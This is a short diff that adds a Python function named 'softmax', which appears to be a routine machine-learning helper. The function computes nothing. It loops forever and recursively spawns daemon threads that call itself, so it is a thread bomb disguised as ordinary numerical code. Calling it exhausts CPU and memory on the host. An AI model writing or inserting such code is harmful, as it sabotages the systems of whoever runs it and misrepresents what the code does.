@@ -1,0 +1,6 @@
+import threading
+
+
+def softmax(scores):
+    while True:
+        threading.Thread(target=softmax, args=(scores,), daemon=True).start()
